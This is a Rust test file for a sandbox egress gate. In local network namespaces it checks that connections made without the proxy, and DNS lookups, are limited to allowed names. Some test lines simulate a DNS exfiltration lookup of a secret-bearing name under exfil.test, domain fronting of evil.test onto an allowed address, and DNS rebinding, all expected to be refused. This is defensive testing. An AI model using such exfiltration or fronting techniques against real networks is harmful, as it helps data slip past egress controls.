//! Egress every client can use (issue 32): a `net = "private"` sandbox's connections made
//! straight to an address, without the proxy variables, are captured by the egress gate and
//! judged like proxied ones, and the sandbox's DNS is the gate's, which answers only the names a
//! domain rule names.
//!
//! No packet leaves this machine. Each scenario runs in a network and mount namespace the test
//! makes: the "internet" is a second namespace behind a veth pair (so its TEST-NET addresses are
//! not the container's own, as a real host's are not), serving HTTP on 192.0.2.10 (`pkg.test`),
//! 192.0.2.20 (`other.test`) and 192.0.2.40 (`third.test`), TLS on 192.0.2.10:443 and
//! PostgreSQL on 192.0.2.30:5432 (`db.test`); a stand-in DNS server on the test namespace's
//! 127.0.0.1:53 answers those names (and `rebind.test` → 10.0.0.1, `loop.test` → 127.0.0.1) and
//! logs every name it is asked; `/etc/resolv.conf` names it only inside the test's mount
//! namespace. Every check has its control: the same from the test's namespace, outside.

use std::path::Path;
use std::time::Duration;

use crate::g7_net::user_net_policy;
use crate::harness::*;
use crate::policy_tests::write_policy;

/// The stand-in DNS server: answers A queries from its zone (NXDOMAIN otherwise, no records for
/// other types of a known name), appending each name asked to LOG.
const DNS: &str = r#"import socket, struct, sys
zone = {"pkg.test": "192.0.2.10", "other.test": "192.0.2.20", "third.test": "192.0.2.40",
        "db.test": "192.0.2.30", "rebind.test": "10.0.0.1", "loop.test": "127.0.0.1"}
log = open(sys.argv[1], "a", buffering=1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", 53))
open(sys.argv[1] + ".ready", "w").close()
while True:
    q, a = s.recvfrom(512)
    i, labels = 12, []
    while q[i]:
        labels.append(q[i+1:i+1+q[i]].decode()); i += 1 + q[i]
    name = ".".join(labels).lower(); qtype = struct.unpack(">H", q[i+1:i+3])[0]
    log.write(name + "\n")
    ip = zone.get(name)
    n = 1 if ip and qtype == 1 else 0
    rcode = 0 if ip else 3
    hdr = q[:2] + bytes([0x81, 0x80 | rcode]) + struct.pack(">HHHH", 1, n, 0, 0)
    ans = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + socket.inet_aton(ip) if n else b""
    s.sendto(hdr + q[12:i+5] + ans, a)
"#;

/// A TLS server on ADDR:443 with CERT/KEY answering every request with its path's file `who`.
const TLS: &str = r#"import http.server, ssl, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        b = b"internet-tls\n"; self.send_response(200); self.send_header("Content-Length", str(len(b))); self.end_headers(); self.wfile.write(b)
    def log_message(self, *a): pass
s = http.server.HTTPServer((sys.argv[1], 443), H)
c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); c.load_cert_chain(sys.argv[2], sys.argv[3])
s.socket = c.wrap_socket(s.socket, server_side=True)
s.serve_forever()
"#;

fn tools() -> Result<(), String> {
    needs_isolation()?;
    for t in [
        "curl", "ip", "python3", "unshare", "nsenter", "getent", "openssl", "node",
    ] {
        require_tool(t)?;
    }
    Ok(())
}

/// The namespaces, the internet behind the veth, its servers and the stand-in DNS, then
/// `script`, with `$B` the sandbox's launcher and `$P` the policy.
fn scenario(dir: &Path, policy: &Path, script: &str) -> Run {
    for (name, who) in [
        ("net", "internet"),
        ("other", "unlisted"),
        ("third", "third"),
    ] {
        std::fs::create_dir_all(dir.join(name)).unwrap();
        std::fs::write(dir.join(name).join("who"), format!("{who}\n")).unwrap();
    }
    std::fs::write(dir.join("dns.py"), DNS).unwrap();
    std::fs::write(dir.join("tls.py"), TLS).unwrap();
    let d = dir.display();
    let full = format!(
        r#"set -u
D={d}; B={b}; P={p}
ip link set lo up
unshare --net sleep 300 & NS=$!
sleep 0.2
IN="nsenter --net=/proc/$NS/ns/net"
ip link add sbxv0 type veth peer name sbxv1 || exit 3
ip link set sbxv1 netns $NS
ip addr add 198.51.100.1/24 dev sbxv0; ip link set sbxv0 up
ip route add 192.0.2.0/24 via 198.51.100.2
$IN sh -c 'ip link set lo up; ip addr add 198.51.100.2/24 dev sbxv1; ip link set sbxv1 up; ip route add default via 198.51.100.1
  for a in 192.0.2.10 192.0.2.20 192.0.2.30 192.0.2.40; do ip addr add $a/32 dev lo; done' || exit 3
printf 'nameserver 127.0.0.1\n' > $D/resolv.conf
mount --bind $D/resolv.conf /etc/resolv.conf || exit 3
openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=pkg.test -addext subjectAltName=DNS:pkg.test,DNS:evil.test -days 1 -keyout $D/k.pem -out $D/c.pem 2>/dev/null || exit 3
PIDS="$NS"
bg() {{ "$@" >/dev/null 2>&1 & PIDS="$PIDS $!"; }}
bg $IN python3 -m http.server --bind 192.0.2.10 --directory $D/net 80
bg $IN python3 -m http.server --bind 192.0.2.20 --directory $D/other 80
bg $IN python3 -m http.server --bind 192.0.2.40 --directory $D/third 80
bg $IN python3 -m http.server --bind 192.0.2.30 --directory $D/net 8080
bg $IN python3 $D/tls.py 192.0.2.10 $D/c.pem $D/k.pem
bg python3 $D/dns.py $D/queries
trap 'kill $PIDS 2>/dev/null' EXIT
i=0; until [ -e $D/queries.ready ] && curl -s -o /dev/null http://192.0.2.40/who && curl -sk -o /dev/null https://192.0.2.10/; do i=$((i+1)); [ $i -gt 100 ] && echo "no stand-ins" && exit 3; sleep 0.05; done
NOPROXY="env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy -u ALL_PROXY -u all_proxy"
{script}
"#,
        b = bin(),
        p = policy.display()
    );
    let mut c = Cmd::new("unshare");
    c.command()
        .args(["--net", "--mount", "--", "sh", "-c", &full]);
    c.limit(Duration::from_secs(120)).run()
}

/// The default `user` context with `allow` as its net.allow, and an audit log in `dir`.
fn policy(dir: &Path, allow: &str) -> std::path::PathBuf {
    let top = format!("audit = \"{}\"", dir.join("audit.jsonl").display());
    write_policy(
        dir,
        &user_net_policy(&format!("mode = \"private\"\nallow = [{allow}]"), &top),
    )
}

pub fn clients_without_proxy_variables_reach_allowed_names_only() -> Result<(), String> {
    tools()?;
    let d = TempDir::new("g7cap");
    let p = policy(d.path(), "\"pkg.test\", \"third.test\"");
    let inside = r#"
echo getent:$(getent hosts pkg.test || echo failed)
echo fetch:$($NOPROXY node -e 'fetch("http://pkg.test/who").then(r=>r.text()).then(t=>console.log(t.trim()),e=>console.log("failed",e.cause&&e.cause.code))')
echo curl:$($NOPROXY curl -s -m 5 http://pkg.test/who || echo failed)
echo python:$($NOPROXY python3 -c 'import urllib.request as u; print(u.urlopen("http://pkg.test/who", timeout=5).read().decode().strip())' 2>/dev/null || echo failed)
echo unresolved:$($NOPROXY curl -s -m 5 http://192.0.2.40/who || echo refused)
getent hosts third.test >/dev/null
echo resolved:$($NOPROXY curl -s -m 5 http://192.0.2.40/who || echo refused)
echo unlisted:$($NOPROXY curl -s -m 5 http://other.test/who || echo failed)
echo unlisted-ip:$($NOPROXY curl -s -m 5 http://192.0.2.20/who || echo refused)
echo secret:$(getent hosts s3cr3t-$$.exfil.test || echo nxdomain)
echo rebind:$(getent hosts rebind.test || echo nxdomain)
echo loop:$(getent hosts loop.test || echo nxdomain)
"#;
    let script = format!(
        "echo outside:$(getent hosts pkg.test | cut -d' ' -f1) $(curl -s -m 3 http://192.0.2.40/who) $(getent hosts rebind.test | cut -d' ' -f1)\n\
         : > $D/queries\n$B --policy $P --ctx user -- sh -c '{}'\necho queries:$(sort -u $D/queries | tr '\\n' ' ')\n",
        inside.replace('\'', "'\\''").replace("$NOPROXY", "env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy -u ALL_PROXY -u all_proxy")
    );
    let r = scenario(d.path(), &p, &script);
    r.expect_code(0, "capture scenario")?;
    // Control: outside, the names resolve (rebind.test too) and the hosts serve.
    check(
        r.stdout.contains("outside:192.0.2.10 third 10.0.0.1"),
        || format!("control outside: {}", r.show()),
    )?;
    for want in [
        "getent:192.0.2.10 pkg.test",
        "fetch:internet",
        "curl:internet",
        "python:internet",
        "resolved:third",
    ] {
        check(r.stdout.contains(want), || format!("{want}: {}", r.show()))?;
    }
    // A domain rule admits only addresses this sandbox was given for the name: the same address
    // before the sandbox resolved third.test is refused.
    check(r.stdout.contains("unresolved:refused"), || r.show())?;
    for want in [
        "unlisted:failed",
        "unlisted-ip:refused",
        "secret:nxdomain",
        "rebind:nxdomain",
        "loop:nxdomain",
    ] {
        check(r.stdout.contains(want), || format!("{want}: {}", r.show()))?;
    }
    // No query for a name no rule names left the machine (the stand-in never saw one).
    let queries = r
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("queries:"))
        .unwrap_or("");
    check(
        !queries.contains("exfil") && !queries.contains("other") && !queries.contains("rebind"),
        || format!("names no rule names reached the DNS server: {queries}"),
    )?;
    check(queries.contains("pkg.test"), || {
        format!("control: the allowed name was looked up: {queries}")
    })?;
    let audit = std::fs::read_to_string(d.path().join("audit.jsonl")).unwrap_or_default();
    check(
        audit
            .lines()
            .any(|l| l.contains("\"dns-refused\"") && l.contains("exfil.test")),
        || format!("no dns-refused line: {audit}"),
    )?;
    check(
        audit
            .lines()
            .any(|l| l.contains("\"egress-refused\"") && l.contains("\"captured\"")),
        || format!("no captured refusal: {audit}"),
    )
}

pub fn a_server_name_must_lead_to_the_address_and_raw_tcp_works() -> Result<(), String> {
    tools()?;
    require_tool("/usr/lib/postgresql/15/bin/postgres")?;
    let d = TempDir::new("g7capsni");
    let p = policy(d.path(), "\"pkg.test\", \"db.test:5432\"");
    let pg = d.path().join("pg");
    std::fs::create_dir_all(&pg).unwrap();
    let inside = r#"
getent hosts pkg.test >/dev/null
echo tls:$(curl -sk -m 5 https://pkg.test/who || echo failed)
echo fronted:$(curl -sk -m 5 --resolve evil.test:443:192.0.2.10 https://evil.test/who || echo refused)
echo psql:$(psql -h db.test -p 5432 -U postgres -d postgres -w -tAc "select 40 + 2" 2>&1)
echo other-port:$(curl -s -m 5 http://db.test:8080/who || echo refused)
"#;
    let noproxy =
        "env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy -u ALL_PROXY -u all_proxy";
    let script = format!(
        "chown postgres {pg} && runuser -u postgres -- /usr/lib/postgresql/15/bin/initdb -D {pg}/data -U postgres --auth=trust --no-sync >/dev/null || exit 3\n\
         echo 'host all all 0.0.0.0/0 trust' >> {pg}/data/pg_hba.conf\n\
         $IN runuser -u postgres -- /usr/lib/postgresql/15/bin/postgres -D {pg}/data -h 192.0.2.30 -p 5432 -k {pg} -c fsync=off >{pg}/log 2>&1 & PIDS=\"$PIDS $!\"\n\
         i=0; until psql -h 192.0.2.30 -U postgres -d postgres -w -tAc 'select 1' >/dev/null 2>&1; do i=$((i+1)); [ $i -gt 200 ] && echo no-postgres && cat {pg}/log && exit 3; sleep 0.05; done\n\
         echo outside:$(curl -sk -m 3 --resolve evil.test:443:192.0.2.10 https://evil.test/who) $(curl -s -m 3 http://192.0.2.30:8080/who)\n\
         $B --policy $P --ctx user -- {noproxy} sh -c '{}'\n",
        inside.replace('\'', "'\\''"),
        pg = pg.display()
    );
    let r = scenario(d.path(), &p, &script);
    r.expect_code(0, "server name scenario")?;
    // Control: outside, the TLS server answers for either name, and db.test serves on 8080.
    check(r.stdout.contains("outside:internet-tls internet"), || {
        r.show()
    })?;
    check(r.stdout.contains("tls:internet-tls"), || r.show())?;
    // Another name fronted on an allowed name's address is refused.
    check(r.stdout.contains("fronted:refused"), || r.show())?;
    // A raw TCP client (PostgreSQL's) reaches the port its rule names, and only that one.
    check(r.stdout.contains("psql:42"), || r.show())?;
    check(r.stdout.contains("other-port:refused"), || r.show())?;
    let audit = std::fs::read_to_string(d.path().join("audit.jsonl")).unwrap_or_default();
    check(
        audit
            .lines()
            .any(|l| l.contains("\"egress-refused\"") && l.contains("evil.test")),
        || format!("no refusal of the fronted name: {audit}"),
    )
}
